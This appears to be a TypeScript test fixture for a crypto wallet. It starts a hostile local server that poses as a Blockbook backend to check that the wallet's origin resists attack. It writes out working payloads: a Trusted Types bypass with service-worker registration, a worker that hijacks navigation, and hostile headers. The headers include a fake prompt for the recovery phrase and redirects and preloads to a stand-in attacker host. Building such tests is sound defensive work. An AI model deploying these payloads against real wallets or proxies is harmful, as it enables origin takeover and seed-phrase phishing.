/**
 * A hostile server in a Blockbook's place that attacks the wallet's origin: it answers with a page, a script, a service worker, or
 * its own headers.
 */
import { createServer } from 'node:http';

/** The mark left by its scripts if they run. */
export const STOLEN = 'stolen';

/** Its responses by the last path segment. */
export const ATTACKS = { page: 'aa', script: 'bb', worker: 'cc', headers: 'dd' } as const;

/** The page loads the script beside it, which registers the worker beside it for the whole origin. */
const PAGE = `<!doctype html><title>${STOLEN}</title><script src="${ATTACKS.script}"></script>`;

const SCRIPT = `window.${STOLEN} = 1;
window.trustedTypes?.createPolicy('default', { createScriptURL: (url) => url });
navigator.serviceWorker.register(new URL('${ATTACKS.worker}', location.href).href, { scope: '/' });`;

const WORKER = `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
const page = () => new Response('<title>${STOLEN}</title><h1>${STOLEN}</h1>', { headers: { 'content-type': 'text/html' } });
self.addEventListener('fetch', (event) => event.request.mode === 'navigate' && event.respondWith(page()));`;

/** Headers that a Blockbook has no reason to send, and that browsers or nginx act on. */
export const HOSTILE_HEADERS: Readonly<Record<string, string>> = {
  'service-worker-allowed': '/',
  'set-cookie': `${STOLEN}=1; Path=/`,
  'clear-site-data': '"storage"',
  'content-security-policy': "default-src * 'unsafe-inline'",
  'content-disposition': `attachment; filename=${STOLEN}.exe`,
  'access-control-allow-credentials': 'true',
  'alt-svc': 'h2="thief.invalid:443"',
  'www-authenticate': 'Basic realm="Your recovery phrase"',
  'x-accel-redirect': '/kennel.config.json',
  'speculation-rules': '"/blockbook/tx/rules"',
  'report-to': '{}',
  'strict-transport-security': 'max-age=0',
  location: 'https://thief.invalid/',
  refresh: '0; url=https://thief.invalid/',
  link: '<https://thief.invalid/>; rel=preload; as=script',
};

const HTML = { 'content-type': 'text/html' };
const JAVASCRIPT = { 'content-type': 'text/javascript', 'service-worker-allowed': '/' };

const ANSWERS: Readonly<Record<string, readonly [headers: Readonly<Record<string, string>>, body: string]>> =
  {
    [ATTACKS.script]: [JAVASCRIPT, SCRIPT],
    [ATTACKS.worker]: [JAVASCRIPT, WORKER],
    [ATTACKS.headers]: [{ ...HTML, ...HOSTILE_HEADERS }, PAGE],
  };

const STATUS =
  '{"blockbook":{"inSync":true,"bestHeight":1,"decimals":8},"backend":{"blocks":1,"version":"1"}}';

export interface HostileBlockbook {
  /** `host:port` */
  readonly address: string;
  /** requested paths, in order */
  readonly asked: readonly string[];
  dispose(): Promise<void>;
}

export async function startHostileBlockbook(): Promise<HostileBlockbook> {
  const paths: string[] = [];
  const server = createServer((asked, answer): unknown => {
    paths.push(asked.url ?? '');
    // healthy to proxies: they would forward nothing otherwise
    if (asked.url === '/api/status') return answer.writeHead(200).end(STATUS);
    const [headers, body] = ANSWERS[asked.url?.split('/').at(-1) ?? ''] ?? [HTML, PAGE];
    return answer.writeHead(200, headers).end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const at = server.address();
  if (typeof at !== 'object' || at === null) throw new Error('the hostile server has no port');
  return {
    address: `127.0.0.1:${at.port}`,
    asked: paths,
    dispose: () => new Promise((resolve) => server.close(() => resolve()).closeAllConnections()),
  };
}
